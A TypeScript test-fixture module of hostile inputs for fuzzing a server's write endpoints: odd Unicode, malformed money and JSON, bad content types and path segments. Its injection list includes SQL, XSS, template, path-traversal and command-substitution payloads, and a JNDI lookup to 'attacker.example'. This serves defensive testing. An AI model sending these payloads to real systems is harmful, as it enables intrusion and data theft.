// The bad inputs thrown at every write operation (e2e/security/bad-input.spec.ts): strings a client should
// never be able to break the server with, injection payloads, odd money, malformed JSON, content
// types and garbage path segments, and the fast-check arbitraries built on them.
import fc from "fast-check";

export const MB = 1024 * 1024;
/** Strings a client should never be able to break the server with. */
export const ODD_UNICODE = [
  "\uD800", // a lone high surrogate
  "\uDC00x", // a lone low surrogate
  "a\uD83D", // half an emoji
  "\u202Egnp.exe\u202C", // right-to-left override
  "\u200F\u200E\u061C", // RTL/LTR marks
  "\u0000", // NUL
  "a\u0000b",
  "😀👩‍👩‍👧‍👦🏳️‍🌈",
  "e\u0301\u0302\u0303\u0304\u0305\u0306", // combining marks
  "Z̴̡̛̖͇̞̫̗̳̪̮̳̱̺̭̗͔̹͐̇̓̀̃̾̒̈́̓̉̚ä̸",
  "\uFEFFbom",
  "\u2028\u2029",
  "\uFFFE\uFFFF",
  "\u{10FFFF}",
  "\u00A0\u2007\u202F",
  "\t\r\n\v\f",
  "\u001B[31mred",
];

export const INJECTIONS = [
  `'; DROP TABLE "UseCase"; --`,
  `" OR 1=1 --`,
  "<script>alert(1)</script>",
  `<img src=x onerror="alert(1)">`,
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${7*7}",
  "#{7*7}",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${jndi:ldap://attacker.example/a}",
  "%00",
  "$(touch /tmp/pwned)",
  "`id`",
  "javascript:alert(1)",
  '{"$gt": ""}',
  "\\",
];

export const MONEY = [
  "1e400",
  "-0.001",
  "12345678901234567.89",
  "0x10",
  " 1 ",
  "1,000.00",
  "1 000",
  "NaN",
  "Infinity",
  "-Infinity",
  "-0",
  "0.999",
  "1.",
  ".5",
  "+1",
  "１２３",
  "1_000",
  "9999999999999.99",
  "10000000000000",
  "1000000000000.01",
  "-1",
  "",
  "0",
  "00000000000001.00",
  "1e3",
  "٣",
];

/** Money as a raw JSON number (not a string): only literals JSON allows. */
export const MONEY_LITERALS = [
  "1e400",
  "-0.001",
  "12345678901234567.89",
  "1e-400",
  "-0",
  "0.1",
  "100",
  "9007199254740993",
];

export const MALFORMED = [
  '{"a":',
  "{'a': 1}",
  "[1, 2,",
  "{,}",
  '{"a": 1,}',
  '{"a": 01}',
  '{"a": NaN}',
  '{"a": undefined}',
  "\uFEFF{}",
  "{} {}",
  "nul",
  '{"a": "\\x41"}',
  '{"a": "\\uD800"',
  '"unterminated',
  "}",
  "\u0000",
  '{"a" 1}',
];

export const CONTENT_TYPES = [
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----x",
  "application/xml",
  "application/json; charset=utf-16",
  "application/yaml",
  "application/octet-stream",
  "",
  "*/*",
  "application/json, text/plain",
];

export const GARBAGE_SEGMENTS = [
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "-1",
  "0",
  "UC-0",
  "UC-1000000000",
  "UC-99999999999999999999",
  "UC--1",
  "UC-1.5",
  "UC-1e3",
  "UC-0x1F",
  "[object Object]",
  "../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  `' OR 1=1 --`,
  "<script>",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${jndi:ldap://x/a}",
  "\u0000",
  "a\u0000b",
  "😀",
  "\u202E",
  "x".repeat(3000),
  "c".repeat(25),
  "%",
  "%zz",
  "%E0%A4%A",
  "%C0%AE",
];

export const text = fc.oneof(
  fc.constantFrom(...ODD_UNICODE),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc
    .array(fc.oneof(fc.constantFrom(...ODD_UNICODE), fc.string({ unit: "binary", maxLength: 6 })), { maxLength: 5 })
    .map((parts) => parts.join("")),
);

export const huge = fc
  .record({
    size: fc.integer({ min: 100_000, max: 300_000 }),
    unit: fc.constantFrom("x", "é", "😀", "\u0000", " ", "\uD800", "a\u0301", "\\"),
  })
  .map(({ size, unit }) => unit.repeat(Math.ceil(size / unit.length)));
